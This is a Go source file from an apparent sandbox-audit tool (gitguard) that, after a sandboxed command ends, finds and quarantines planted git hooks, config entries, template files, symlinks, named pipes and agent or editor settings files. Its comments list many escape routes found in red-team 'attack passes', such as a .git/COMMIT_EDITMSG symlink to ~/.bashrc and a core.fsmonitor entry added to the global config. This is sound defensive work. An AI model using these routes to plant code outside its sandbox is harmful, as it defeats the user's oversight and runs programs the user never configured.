package gitguard

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math"
	"os"
	"os/user"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const maxTime = math.MaxInt64

// Options configure one audit.
type Options struct {
	// Roots are the trees the command could write (canonical, absolute).
	Roots []string
	// Since is when the run began: anything whose inode changed at or after
	// it was changed during the run.
	Since time.Time
	// Start is the precise time the run began (Since is a second or two
	// earlier, for coarse timestamps). A file that was read-only to the
	// command (Protected) counts as changed only after Start less one tick
	// of the kernel's coarse clock (its change time may lag the change by
	// that much): it changed through a hard link, and the user's own edit
	// before the run is not taken for the command's (except one made in
	// the tick before Start). Zero: Since.
	Start time.Time
	// Placeholder reports the placeholders moat made for the run's
	// reserved names (still the inodes it made), which the command could
	// not have written: never a repository's HEAD or a settings file.
	// Nil: none are known (sockets and all are judged).
	Placeholder func(path string) bool
	// Protected reports paths that were read-only to the command during the
	// run (moat's mounts): they cannot have been changed by it, and a
	// repository whose config is protected is the user's own. If nil,
	// nothing is.
	Protected func(path string) bool
	// Hidden reports a path the command could not read (denyRead, the
	// default secrets): a config it wrote that names one as a remote has
	// the user's git fetch bring it within the sandbox's reach. If nil,
	// nothing is.
	Hidden func(path string) bool
	// Home is the user's home directory (for ~/ in include and hooksPath
	// values, and the global git config).
	Home string
	// XDGConfigHome is $XDG_CONFIG_HOME of the command's environment (the
	// user's git config may be there); this process's own is never read.
	XDGConfigHome string
	// HGRCPath is $HGRCPATH of the command's environment: the user's hg
	// reads the files it names (attack pass 103).
	HGRCPath string
	// GitConfigGlobal, GitConfigSystem and GitTemplateDir are
	// $GIT_CONFIG_GLOBAL, $GIT_CONFIG_SYSTEM and $GIT_TEMPLATE_DIR of the
	// command's environment, the user's: git reads the first two as the
	// global and system configuration, and git clone and git init copy the
	// last into each new repository. A file or directory they name in a
	// writable tree is judged as ~/.gitconfig and init.templateDir are
	// (found by attack pass 47: a core.fsmonitor appended to the file
	// GIT_CONFIG_GLOBAL named, a hook put in GIT_TEMPLATE_DIR).
	GitConfigGlobal, GitConfigSystem, GitTemplateDir string
	// QuarantineDir receives what the audit takes out of the trees. It must
	// be outside every root. Required.
	QuarantineDir string
	// CacheDir keeps what the walk read, so that the next audit reads only
	// the directories that changed since. "" disables the cache.
	CacheDir string
	// MaxDirs bounds the directories one audit visits (0: DefaultMaxDirs).
	MaxDirs int
	// Parallel, if set, runs fn on an OS thread whose file-system
	// credentials are those of the goroutine that called Audit, and
	// returns once fn has returned (an error: fn did not run). A warm
	// audit lstats the directories its record knows ahead of the walk, a
	// few at a time, through it. Nil: the walk lstats each directory when
	// it reaches it, on the calling goroutine. Goroutines of the audit's
	// own would run on any thread of the process: where the caller's
	// thread has other credentials than the process (moatd audits a
	// client's trees on a thread with the client's), they would lstat as
	// the process (root), and the walk would go by root's answers for
	// paths the record names (found by an attack pass: an oracle of what
	// exists where only root may look).
	Parallel func(fn func()) error
	// Unsettled, if set, is when the earliest sandbox still running that
	// can write the roots began (another run, or another command of the
	// same session). What changed since then may still be that sandbox's
	// work in progress: the record keeps, for it, what the previous audit
	// saw, so that the audit after that sandbox ends judges it against the
	// tree from before it began (a directory it moved into place is then
	// still "moved in").
	Unsettled time.Time
}

// DefaultMaxDirs is the default bound of one audit: far above a real
// project (a directory the cache knows costs one lstat), so that only a
// command that made that many directories on purpose reaches it, and then
// the audit says so.
const DefaultMaxDirs = 1_000_000

// Finding is one thing the audit found and what it did about it.
type Finding struct {
	// Path is the file as the command left it.
	Path string
	// Reason says why it could make the user's git (or moat) do what the
	// user did not configure.
	Reason string
	// Action is what the audit did: "quarantined" (moved out of the tree),
	// "rewrote" (a config kept without the risky entries), or "failed: ..."
	// when it could not act.
	Action string
	// MovedTo is where the original went, if it was moved.
	MovedTo string
}

// Report is an audit's outcome.
type Report struct {
	Findings []Finding
	// Incomplete names roots the audit could not walk whole (the bound was
	// reached, or a directory could not be read), with the reason.
	Incomplete []string
	// Dirs is the number of directories visited; Read the number whose
	// entries had to be read (the others came from the cache).
	Dirs, Read int
}

// Audit looks, after a sandboxed command ended, for what it left in the
// writable trees that would make the user's own git run a program the user
// did not configure, or widen a later moat run, and takes it out:
//
//   - a git config file changed during the run that sets anything not known
//     to be harmless (core.fsmonitor, core.hooksPath, filters, aliases that
//     run a shell, includes, ...) is rewritten without those entries; one
//     git cannot read is moved out;
//   - a hook changed during the run (in a repository's hooks directory or an
//     in-tree core.hooksPath) is moved out;
//   - a repository made reachable during the run (a new .git file, a
//     rewritten commondir, a HEAD that turns a directory into a bare
//     repository) that would run a program from files the user did not
//     protect loses the file that made it reachable;
//   - a moat or Claude Code settings file changed during the run is moved
//     out.
//
// What it moved is kept under QuarantineDir. Audit must run when no
// sandboxed process can write the trees any more.
func Audit(o Options) (*Report, error) {
	if o.QuarantineDir == "" {
		return nil, errors.New("gitguard: no quarantine directory")
	}
	defer PinMounts()() // the autofs checks read the mount table once
	if o.Start.IsZero() || o.Start.Before(o.Since) {
		o.Start = o.Since
	}
	if o.MaxDirs <= 0 {
		o.MaxDirs = DefaultMaxDirs
	}
	if o.Protected == nil {
		o.Protected = func(string) bool { return false }
	}
	// A protected file counts as changed only after Start, but a change
	// made just after Start is stamped from the kernel's coarse clock,
	// up to a tick earlier: with Start itself as the bound, a write
	// through a hard link in the run's first tick (a session command's
	// first milliseconds) went unseen. So the bound is a tick before
	// Start, and a user's own edit in the last tick before the run is
	// judged as the command's: the audit errs on the side of the check.
	start := o.Start.Add(-coarseTick()).UnixNano()
	a := &auditor{o: o, since: o.Since.UnixNano(), start: start, unsettled: unixNano(o.Unsettled), rep: &Report{}, seen: map[string]bool{}, done: map[string]bool{}, fresh: map[string]bool{}, reached: map[string]bool{}, dirs: map[string]fileID{}, expect: map[string]fileID{}, judged: map[string]fileID{}, askedFresh: map[string]bool{}}
	a.global = globalGitConfig(o.Home, o.XDGConfigHome, func(p string) bool { return a.inRoots(p) || a.inRoots(physical(p)) }, o.GitConfigGlobal, o.GitConfigSystem)
	if filepath.IsAbs(o.GitTemplateDir) {
		a.global.templates = append(a.global.templates, o.GitTemplateDir)
	}
	a.globalHooks = a.global.hooks
	defer a.putModesBack()
	for _, root := range o.Roots {
		if err := a.walkRoot(root); err != nil {
			return a.rep, err
		}
	}
	return a.rep, nil
}

// globalInRoot judges what the user's global git configuration names in
// the tree root, after the walk of it (its record is saved after this):
//
//   - a file it includes (at any depth: an include of an included file
//     too), judged like any config: git reads it for every repository (or
//     those its condition names). A core.hooksPath or init.templateDir
//     such a file still sets once judged is the user's;
//   - its core.hooksPath where it is a path of its own (absolute, ~/):
//     git runs the hooks there in every repository of the user's, and a
//     tree that holds no repository (no repo call) left it unjudged;
//   - its init.templateDir: git clone and git init copy what it holds
//     (hooks, config, every other file) into each new repository.
//
// Found by attack pass 45: the audit read the hooksPath and includes of
// the top-level files only, judged the global hooks only from a
// repository it visited, and never judged the template directory.
func (a *auditor) globalInRoot(root string) {
	in := func(p string) bool { return within(p, root) || within(physical(p), root) }
	// A value set by an include of this tree may name a directory in a
	// tree walked before it, whose own turn is over: it is judged now
	// (found by attack pass 47: --write A --write B, B's include naming
	// A/x/hooks, and the hook in A stayed).
	a.walked = append(a.walked, root)
	inWalked := func(p string) bool {
		for _, r := range a.walked {
			if within(p, r) || within(physical(p), r) {
				return true
			}
		}
		return false
	}
	// hg reads $XDG_CONFIG_HOME/hg/hgrc, when that is absolute, instead
	// of ~/.config/hg/hgrc (judged with the home): one the run made ran
	// its hook at the user's next hg status (attack pass 92).
	if x := a.o.XDGConfigHome; filepath.IsAbs(x) {
		if p := filepath.Join(x, "hg", "hgrc"); in(p) {
			a.hgFile(p, false, 0, map[string]bool{})
		}
		// and fossil its fossil.db there (attack pass 94).
		if p := filepath.Join(x, fossilConfigDB); in(p) {
			a.fossilConfig(p)
		}
	}
	a.hgUserIncludes(in)
	nh, nt := len(a.lateHooks), len(a.global.templates)
	for _, inc := range a.global.includes {
		if !in(inc) {
			continue
		}
		for _, e := range a.configFile(inc, 1) {
			if !e.HasValue || e.Value == "" {
				continue
			}
			switch e.Name {
			case "core.hookspath":
				a.lateHooks = append(a.lateHooks, e.Value)
				// Relative: taken in each repository, those visited
				// before this include was read among them.
				if ConfigPath(e.Value, "", a.o.Home) == "" {
					for _, base := range a.bases {
						a.hookDir(a.resolve(e.Value, base))
					}
				}
			case "init.templatedir":
				a.global.templates = append(a.global.templates, e.Value)
			}
		}
	}
	// A relative one is each repository's own (.githooks), the user's
	// next git init's too: in every directory of this tree, not only in
	// the repositories the walk found. A hook the command put in a
	// directory that was no repository yet (a project it scaffolded) ran
	// on the user's first commit after git init there (found by attack
	// pass 47). One lstat a directory, and only for a relative value.
	// A relative init.templateDir likewise: git init takes it in the
	// directory it makes a repository of.
	var rel, relTemplates []string
	for _, h := range append(append([]string(nil), a.globalHooks...), a.lateHooks...) {
		if h != "" && ConfigPath(h, "", a.o.Home) == "" && !slices.Contains(rel, h) {
			rel = append(rel, h)
		}
	}
	for _, t := range a.global.templates {
		if t != "" && ConfigPath(t, "", a.o.Home) == "" && !slices.Contains(relTemplates, t) {
			relTemplates = append(relTemplates, t)
		}
	}
	if len(rel)+len(relTemplates) > 0 && a.next != nil {
		dirs := make([]string, 0, len(a.next.dirs))
		for d := range a.next.dirs {
			dirs = append(dirs, d)
		}
		sort.Strings(dirs)
		for _, d := range dirs {
			for _, h := range rel {
				if p := a.resolve(h, d); p != "" {
					if _, err := lstat(p); err == nil {
						a.hookDir(p)
					}
				}
			}
			for _, t := range relTemplates {
				if p := a.resolve(t, d); p != "" {
					if _, err := lstat(p); err == nil {
						a.templateDir(p)
					}
				}
			}
		}
	}
	// One outside every tree is judged too, in each tree's turn: a
	// symlink of the user's in it may lead into the tree (a dotfiles
	// layout: ~/.git_template/hooks -> ~/dotfiles/git/hooks), and git
	// takes what is there (attack pass 47).
	outside := func(p string) bool { return !a.inRoots(p) && !a.inRoots(physical(p)) }
	for i, h := range append(append([]string(nil), a.globalHooks...), a.lateHooks...) {
		if p := ConfigPath(h, "", a.o.Home); p != "" && (in(p) || outside(p) || i >= len(a.globalHooks)+nh && inWalked(p)) {
			a.hookDir(p)
		}
	}
	for i, t := range a.global.templates {
		if p := ConfigPath(t, "", a.o.Home); p != "" && (in(p) || outside(p) || i >= nt && inWalked(p)) {
			a.templateDir(p)
		}
	}
}

// templateDir judges the user's git template directory dir (in a writable
// tree): every file git would copy into a new repository (names not
// starting with "."; hooks/ as a hooks directory, config as a config)
// that changed during the run, or came with a directory moved in, is
// taken out. A sandboxed command has no reason to write there.
func (a *auditor) templateDir(dir string) {
	a.reachPath(filepath.Join(dir, "x"))
	if link := a.wayLinkToTakeOut(dir); link != "" {
		if real, ok := a.changedActionable(link); ok {
			a.quarantine(real, a.wayLinkWhy(link)+" on the way to the user's git template directory (init.templateDir "+quoteName(dir)+")")
			return
		}
	}
	all := a.linkedAway(dir)
	if real := leadsTo(dir); real != filepath.Clean(dir) && (a.fresh[real] || a.inFresh(real)) {
		all = true
	}
	if fi, err := lstat(dir); err == nil && fi.IsDir() && a.inFresh(filepath.Join(dir, "x")) {
		all = true
	}
	// Every file is judged, however many and however deep: git copies
	// them all. The walk stopped at 10000 files and 8 levels, in name
	// order, and what lay past either stayed: a directory of 10001 files
	// sorting first hid a planted commondir, which git init copied into
	// the next new repository (found by attack pass 47). A directory the
	// run made or moved in (by the last audit's record) goes whole, one
	// move for all it holds.
	var walk func(d string)
	walk = func(d string) {
		a.reach(d)
		es, err := readDir(d)
		if err != nil {
			if !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v (the git template directory was not checked)", d, err))
			}
			return
		}
		for _, e := range es {
			if strings.HasPrefix(e.Name(), ".") {
				continue // git's copy_templates skips these
			}
			p := filepath.Join(d, e.Name())
			if d == dir && e.Name() == "hooks" {
				a.hookDir(p)
				continue
			}
			if d == dir && e.Name() == "config" {
				a.configFile(p, 1)
				continue
			}
			id, err := lstatID(p)
			if err != nil {
				continue
			}
			if e.IsDir() {
				if a.fresh[p] || a.changed(id) && a.inFresh(filepath.Join(p, "x")) {
					a.judgedAs(p, id)
					if real, ok := a.changedActionable(p); ok {
						a.quarantineReached(dir, real, "a directory made or moved in during the run in the user's git template directory (init.templateDir "+quoteName(dir)+"), which git clone and git init copy into every new repository")
						continue
					}
				}
				walk(p)
				continue
			}
			changed := all || a.changedAt(p, id) || a.linkedAway(p)
			a.judgedAs(p, id)
			if real, ok := a.changedActionable(p); changed && ok {
				a.quarantineReached(dir, real, "a file in the user's git template directory (init.templateDir "+quoteName(dir)+"), which git clone and git init copy into every new repository")
			}
		}
	}
	walk(dir)
}

type modeChange struct {
	path string
	mode fs.FileMode
	fd   int // the directory, held open: its mode is put back through it
}

// reach makes sure the audit can list and search the directory p of a
// writable tree. A directory without read or search permission for its
// owner hides what it holds from an audit running as that user, while git
// needs only search permission to use a repository in it (mode 0100), and
// a later run can open it again through a descriptor: the audit adds u+rx
// to a directory the user owns for as long as it runs, and puts the mode
// back after (through a descriptor, act.go).
//
// Root needs none of it (it reads and renames whatever the modes say), and
// changes no mode.
func (a *auditor) reach(p string) {
	if a.reached[p] || !a.inRoots(p) || auditorUID() == 0 {
		return
	}
	a.reached[p] = true
	a.chmodDir(p, 0o500)
}

// unlock lets the audit change the entries of dir (move a plant out of
// it, put a rewritten config in its place): a directory of a writable tree
// the user owns gets u+rwx for as long as the audit runs (a command that
// wrote a hook and then took write permission off its directory made the
// move out fail, and the hook stayed).
func (a *auditor) unlock(dir string) {
	if !a.inRoots(dir) || auditorUID() == 0 {
		return
	}
	a.chmodDir(dir, 0o700)
}

// reachPath reaches every directory from p's root down to p's directory.
func (a *auditor) reachPath(p string) {
	for _, r := range a.o.Roots {
		if !within(p, r) {
			continue
		}
		rel := strings.TrimPrefix(filepath.Dir(p), r)
		d := r
		a.reach(d)
		for _, part := range strings.Split(strings.Trim(rel, "/"), "/") {
			if part == "" {
				continue
			}
			d = filepath.Join(d, part)
			a.reach(d)
		}
		return
	}
}

type auditor struct {
	o           Options
	since       int64
	start       int64 // the precise start less a coarse tick (for protected files)
	unsettled   int64 // Options.Unsettled (0: none)
	rep         *Report
	seen        map[string]bool   // candidate git directories evaluated
	done        map[string]bool   // files already acted on
	fresh       map[string]bool   // directories moved in during the run
	reached     map[string]bool   // directories made searchable (or found so)
	dirs        map[string]fileID // directories as resolved when a file in them was judged (parentOf)
	expect      map[string]fileID // files as judged, by the path resolved to act on them (expectAt)
	judged      map[string]fileID // files judged, by the path they were judged by (judgedAs)
	askedFresh  map[string]bool   // directories inFresh asked movedIn about
	restore     []modeChange      // modes to put back when the audit ends
	budget      int
	modSeen     map[fileID]bool         // directories modules walked (device and inode)
	modForeign  map[fileID]bool         // each of them first reached past another user's symlink
	bigRead     int64                   // bytes of git's large state files read (readBig)
	parsed      map[fileID]parsedConfig // parseConfig's, by the file read
	parsedBytes int
	globalHooks []string
	global      globalGit // what the user's global git configuration names
	lateHooks   []string  // core.hooksPath of global includes in the trees, once judged
	bases       []string  // the work trees (or git directories) of the repositories judged
	walked      []string  // the roots walked so far
	qdir        string    // this audit's quarantine directory, made on first use
	n           int
	cache       *walkCache // what the previous audit saw
	next        *walkCache // what this one sees
}

func (a *auditor) changed(id fileID) bool { return id.ctime >= a.since }

func unixNano(t time.Time) int64 {
	if t.IsZero() {
		return 0
	}
	return t.UnixNano()
}

// unsettledAt reports a change that may be a live sandbox's work.
func (a *auditor) unsettledAt(ctime int64) bool { return a.unsettled != 0 && ctime >= a.unsettled }

// recordDir puts what the walk saw of dir in the next record, or, where it
// changed while another sandbox that can write it runs, what the previous
// record had (nothing, if it had nothing).
func (a *auditor) recordDir(next *walkCache, dir string, id fileID, d dirInfo) {
	if !a.unsettledAt(id.ctime) {
		next.put(dir, d)
		return
	}
	if old, ok := a.cache.old(dir); ok {
		next.put(dir, old)
	}
}

// movedIn reports a directory put at its path during the run (made,
// renamed there or put in place of another): its inode changed during the
// run and the last audit saw no directory, or another one, there. What it
// holds may keep change times from before the run (a tree made in an
// earlier run where no audit could see it, then moved into place), so all
// of it is judged as changed. Without an earlier audit's record of the
// tree nothing can be told apart: nothing counts as moved.
//
// A directory the last audit saw listed but could not read (mode 000 to
// the user it ran as) is judged whole too, whenever it changed: what it
// holds was never looked at.
func (a *auditor) movedIn(dir string, id fileID) bool {
	if a.cache == nil {
		return false
	}
	old, ok := a.cache.old(dir)
	if !ok {
		if parent, pok := a.cache.old(filepath.Dir(dir)); pok && slices.Contains(parent.subdirs, filepath.Base(dir)) {
			return true
		}
	}
	if !a.changed(id) {
		return false
	}
	return !ok || old.id.dev != id.dev || old.id.ino != id.ino
}

// gitObjectDir reports the names git gives the directories of a
// repository's objects: two hex digits, pack and info. The walk skips them
// (they hold objects and nothing git would run), and looks at anything
// else there (a tree hidden among them is judged where it is).
func gitObjectDir(name string) bool {
	if name == "pack" || name == "info" {
		return true
	}
	return len(name) == 2 && isHex(name[0]) && isHex(name[1])
}

func isHex(c byte) bool { return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' }

// inFresh reports whether p lies in a directory moved in during the run.
// A directory the walk has not reached yet is asked now (movedIn): a
// config or hooks path a repository names is judged when the walk visits
// the repository, and a new directory on its way that the walk reached
// only later left a staged config or hook unjudged, by the order of the
// names (found by an attack pass: TestAuditThroughSymlinkInNewDirectory).
func (a *auditor) inFresh(p string) bool {
	for d := filepath.Dir(p); ; d = filepath.Dir(d) {
		if a.fresh[d] {
			return true
		}
		if !a.askedFresh[d] && a.walkable(d) && physical(d) == d {
			a.askedFresh[d] = true
			if fi, err := lstat(d); err == nil && fi.IsDir() && a.movedIn(d, idOf(fi)) {
				a.fresh[d] = true
				return true
			}
		}
		if d == "/" || d == "." {
			return false
		}
	}
}

// walkable reports a directory below the root being walked that the walk
// visits when it gets there (not a .git directory or anything in one, not
// a bare repository's objects): what movedIn knows of from the record.
func (a *auditor) walkable(d string) bool {
	if a.cache == nil || d == a.cache.root || !within(d, a.cache.root) {
		return false
	}
	for _, c := range strings.Split(strings.TrimPrefix(d, a.cache.root), "/") {
		if c == ".git" {
			return false
		}
	}
	return !inSkippedObjects(d)
}

// changedAt reports a file changed during the run: its inode, or the
// directory it was moved in with.
func (a *auditor) changedAt(p string, id fileID) bool { return a.changed(id) || a.inFresh(p) }

// freshAncestor is the directory moved in during the run that holds p
// (by p's path), "" if none.
func (a *auditor) freshAncestor(p string) string {
	for d := filepath.Dir(p); ; d = filepath.Dir(d) {
		if a.fresh[d] {
			return d
		}
		if d == "/" || d == "." {
			return ""
		}
	}
}

// leadOut is the symlink inside the directory moved in during the run,
// fresh, through which p's path leads out of it ("" if p's directory lies
// inside it, as it really is). A file reached through a directory moved
// in is judged as moved in with it, wherever it lies; but what was moved
// in is the symlink, not the file it leads to: the symlink is what the
// audit takes out. Acting on the file it led to had root's audit rewrite
// root's config, which another user's older include reached through a
// symlink that user made in a new directory (found by an attack pass:
// TestAuditIncludeThroughMovedInDirectory); judging such a file not at
// all let a sandbox's new directory lead the user's core.hooksPath or an
// include to a hook or config staged in an earlier run (the next pass:
// TestAuditThroughSymlinkInNewDirectory).
func leadOut(fresh, p string) string {
	rd, err := evalSymlinks(fresh)
	if err != nil {
		rd = fresh
	}
	rp, err := evalSymlinks(filepath.Dir(p))
	if err != nil || within(rp, rd) {
		return ""
	}
	rel, err := filepath.Rel(fresh, p)
	if err != nil || rel == ".." || strings.HasPrefix(rel, "../") {
		return ""
	}
	d := fresh
	for _, c := range strings.Split(rel, "/") {
		d = filepath.Join(d, c)
		fi, err := lstat(d)
		if err != nil {
			return ""
		}
		if fi.Mode()&fs.ModeSymlink != 0 {
			return d
		}
	}
	return ""
}

// ---- the walk ---------------------------------------------------------

func (a *auditor) walkRoot(root string) error {
	fi, err := lstat(root)
	if err != nil || !fi.IsDir() {
		return nil
	}
	a.cache = loadCache(a.o.CacheDir, root)
	next := newCache(root)
	a.next = next
	// The directories the cache knows are looked at a few at a time: the
	// lstat calls are what a warm audit costs.
	pre := prestat(a.cache, a.o.Parallel)
	auto := autofsMounts()
	if auto == nil {
		auto = &autofsTable{}
	}
	type item struct {
		dir     string
		fresh   bool   // put where it is during the run, with all it holds
		objects bool   // a repository's objects directory
		dev     uint64 // its parent's device: another one is a mount point
	}
	queue := []item{{dir: root}}
	for len(queue) > 0 {
		it := queue[0]
		dir := it.dir
		queue = queue[1:]
		if a.budget >= a.o.MaxDirs {
			a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: more than %d directories; the rest was not checked", root, a.o.MaxDirs))
			break
		}
		a.budget++
		a.rep.Dirs++
		fi, err := pre.lstat(dir)
		if err != nil {
			if !errors.Is(err, fs.ErrNotExist) {
				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v", dir, err))
			}
			continue
		}
		if !fi.IsDir() {
			continue
		}
		id := idOf(fi)
		if auto.uncovered[dir] {
			continue // hidden in the sandbox; entering it may ask the automounter (autofs.go)
		}
		if it.dev != 0 && id.dev != it.dev && kernelFS(dir) {
			continue // a kernel filesystem mounted here (a chroot's proc): no git state
		}
		a.reach(dir)
		fresh := it.fresh || dir != root && a.movedIn(dir, id)
		if fresh {
			a.fresh[dir] = true
		}
		d, ok := a.cache.lookup(dir, id)
		if !ok {
			d, err = readDirInfo(dir, id)
			if err != nil {
				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v", dir, err))
				continue
			}
			a.rep.Read++
		}
		if d.flags&flagHEAD != 0 && a.ownPlaceholder(filepath.Join(dir, "HEAD")) {
			d.flags &^= flagHEAD // moat's reserved HEAD: no repository
		}
		a.recordDir(next, dir, id, d)
		if err := a.visit(dir, d); err != nil {
			return err
		}
		for _, s := range d.subdirs {
			if s == ".git" || it.objects && gitObjectDir(s) {
				continue // read from its repository; git's own objects
			}
			queue = append(queue, item{dir: filepath.Join(dir, s), fresh: fresh,
				objects: s == "objects" && d.flags&flagHEAD != 0, dev: id.dev})
		}
	}
	a.globalInRoot(root)
	next.save(a.o.CacheDir)
	return nil
}

// visit looks at one directory's git-relevant entries.
func (a *auditor) visit(dir string, d dirInfo) error {
	if d.flags&flagDotGit != 0 {
		dotgit := filepath.Join(dir, ".git")
		a.viaDotGit(dir, dotgit)
	}
	if d.flags&flagHEAD != 0 && filepath.Base(dir) != ".git" && !insideGitAdmin(dir) {
		// HEAD in a directory: git would take it for a bare repository.
		head := filepath.Join(dir, "HEAD")
		var res []string
		if hid, err := lstatID(head); err == nil && (a.inFresh(head) || a.changed(hid) && !a.knewRepo(dir)) {
			a.judgedAs(head, hid)
			res = append(res, head)
		}
		a.repo(dir, "", res)
	}
	if d.flags&flagClaude != 0 {
		cl := filepath.Join(dir, ".claude")
		a.reach(cl)
		// Judged before the walk reaches .claude itself: moved in?
		if fi, err := lstat(cl); err == nil && fi.IsDir() && (a.fresh[dir] || a.movedIn(cl, idOf(fi))) {
			a.fresh[cl] = true
		} else if err == nil && fi.Mode()&fs.ModeSymlink != 0 {
			// A symlinked .claude: a pointer, like a .git symlink.
			if a.pointer(cl, physical(cl), a.changedAt(cl, idOf(fi))) || a.fresh[dir] {
				a.fresh[cl] = true
			}
		}
		for _, n := range []string{"settings.json", "settings.local.json"} {
			a.settingsFile(filepath.Join(dir, ".claude", n))
		}
	}
	if dir == a.o.Home {
		a.settingsFile(filepath.Join(dir, ".srt-settings.json"))
		for _, n := range hgHomeConfigs {
			a.hgFile(filepath.Join(dir, n), false, 0, map[string]bool{})
		}
		for _, n := range darcsHomeConfigs {
			a.darcsFile(filepath.Join(dir, n))
		}
		a.homeVCSConfigs(dir)
	}
	if d.flags&flagHg != 0 {
		a.hgRepo(dir)
	}
	if d.flags&flagDarcs != 0 {
		a.darcsRepo(dir)
	}
	if d.flags&flagSvn != 0 {
		a.svnWorkingCopy(dir)
	}
	if slices.Contains(d.subdirs, "hooks") && slices.Contains(d.subdirs, "db") && slices.Contains(d.subdirs, "locks") {
		a.svnRepository(dir)
	}
	if d.flags&flagTool != 0 {
		a.toolFiles(dir)
	}
	if d.flags&flagBlocking != 0 {
		for _, n := range worktreeGitFiles {
			a.blockingFile(filepath.Join(dir, n), "a named pipe or device made during the run where git reads a file of the work tree by name (.gitignore, .gitattributes, .gitmodules, .mailmap): git's open of a named pipe waits for a writer for good, so the user's every git status would hang")
		}
	}
	return nil
}

// worktreeGitFiles are the files git opens by name in any directory of a
// work tree (readDirInfo flags one that is a named pipe or device).
var worktreeGitFiles = []string{".gitignore", ".gitattributes", ".gitmodules", ".mailmap"}

// ToolNames are the names of policy.MandatoryFiles and MandatoryDirs that
// no placeholder reserves (those the working directory's reservations, the
// .claude audit and the git audit do not cover; runtime's
// TestToolNamesArePolicys keeps the two lists together, since gitguard
// depends on nothing of moat's): where one exists moat keeps it read-only;
// one the run made is taken out, for it runs code when the user next opens
// the project (.devcontainer's initializeCommand, an agent's MCP servers in
// .cursor or .gemini, .envrc, .exrc: found by an attack pass).
var ToolNames = []string{
	".bash_login", ".bash_logout", ".zshenv", ".zlogin", ".zlogout", ".kshrc", ".mkshrc", ".cshrc", ".tcshrc", ".inputrc",
	".envrc", ".exrc", ".nvimrc", ".nvim.lua", ".vimrc",
	".zed", ".fleet", ".cursor", ".codex", ".gemini", ".windsurf", ".continue", ".clinerules", ".devcontainer",
	".devcontainer.json", "opencode.json", "opencode.jsonc", ".opencode",
	".tool-versions", "mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml", ".mise",
	"crush.json", ".crush.json", ".qwen", ".amazonq", ".kiro", ".roo",
	".hgrc",
	// Fossil's checkout database and user configuration (attack pass 93)
	".fslckout", "_FOSSIL_", ".fossil",
}

var toolNames = func() map[string]bool {
	m := map[string]bool{}
	for _, n := range ToolNames {
		m[strings.ToLower(n)] = true
	}
	return m
}()

func toolName(name string) bool { return toolNames[strings.ToLower(name)] }

// toolFiles takes out the tool files (toolNames) of dir that the run made
// or changed, and judges its SQLite journals (sideFile).
func (a *auditor) toolFiles(dir string) {
	es, err := readDir(dir)
	if err != nil {
		return
	}
	for _, e := range es {
		if !toolName(e.Name()) {
			if sqliteSideFile(e.Name()) && !e.IsDir() {
				a.sideFile(filepath.Join(dir, e.Name()))
			}
			continue
		}
		p := filepath.Join(dir, e.Name())
		a.reachPath(p)
		if a.ownPlaceholder(p) {
			continue
		}
		id, err := lstatID(p)
		if err != nil || !a.changedAt(p, id) {
			continue
		}
		a.judgedAs(p, id)
		if real, ok := a.changedActionable(p); ok {
			a.quarantine(real, "a file a tool runs code from when the project is next opened (an editor's, an agent's, direnv's, mise's, a dev container's): a sandboxed command may not make one")
		}
	}
}

// outLinks takes out the symlinks made during the run in git directory g
// (objects/XX/ aside) that lead out of the writable trees, or nowhere: git
// opens COMMIT_EDITMSG, MERGE_MSG, FETCH_HEAD, the reflogs in logs/ and
// its other message files by name and writes through a symlink there, so
// .git/COMMIT_EDITMSG -> ~/.bashrc had the user's next git commit write
// its message into ~/.bashrc, outside every path the command could write
// (attack pass 66). git makes no symlink there itself. A symlink made in
// the run changes its directory, so only directories changed during the
// run are read.
//
// objects/ is read, but not its two-hex-digit directories: git writes a
// loose object there by a new name (a file symlink in objects/XX/ is
// never written through), but it writes through a symlinked directory:
// objects/fe -> DIR had the user's git add write its object into DIR
// (attack pass 70). The directories read count against the audit's
// bound, and what is past it is reported unchecked, not skipped: a bound
// of 20,000 directories of its own let a run hide .git/logs/HEAD -> FILE
// behind 20,001 empty directories it made in .git (attack pass 70).
//
// It also takes out the named pipes and device nodes made there, and the
// symlinks made there that lead to one, wherever: git reads through a
// symlink as it writes through one, and its open of a pipe waits for a
// writer for good. A loose object (objects/XX/), a ref or info/exclude
// made a pipe, or a symlink to a pipe the command left in the work tree,
// hung the user's every later git log or status (attack pass 78). A
// directory inside the trees a symlink made here leads to is walked as a
// part of g: git opens the files in it by name (.git/info -> ../d holds
// info/exclude). objects/XX/ is read when it changed during the run, for
// these alone.
func (a *auditor) outLinks(g string) {
	key := "outlinks\x00" + g
	if a.seen[key] {
		return
	}
	a.seen[key] = true
	dirs := []string{g}
	linked := map[string]bool{} // directories inside the trees a symlink here leads to, walked once
	for len(dirs) > 0 {
		dir := dirs[len(dirs)-1]
		dirs = dirs[:len(dirs)-1]
		id, err := lstatID(dir)
		if err != nil {
			continue
		}
		loose := filepath.Dir(dir) == filepath.Join(g, "objects") && gitObjectDir(filepath.Base(dir))
		if loose && !a.changed(id) {
			continue // nothing was made or linked in it during the run
		}
		if a.budget >= a.o.MaxDirs {
			a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: more than %d directories; symlinks leading out of the writable trees and named pipes past them were not checked", g, a.o.MaxDirs))
			return
		}
		a.budget++
		es, err := readDir(dir)
		if err != nil {
			continue
		}
		for _, e := range es {
			p := filepath.Join(dir, e.Name())
			switch {
			case e.IsDir():
				if loose {
					continue
				}
				// objects/XX/ (loose objects) is read only for what git
				// would open by name and wait on (below): git writes an
				// object there by a new name, never through a symlink
				dirs = append(dirs, p)
			case blocksOpen(e.Type()) && a.changed(id):
				a.blockingFile(p, "a named pipe or device in a git directory made during the run: git opens HEAD, refs, index, info/exclude, COMMIT_EDITMSG, loose objects and its other files there by name, and its open of a named pipe waits for a writer for good, so the user's every git status or commit would hang")
			case e.Type()&fs.ModeSymlink != 0 && a.changed(id):
				lid, err := lstatID(p)
				if err != nil || !a.changedAt(p, lid) {
					continue
				}
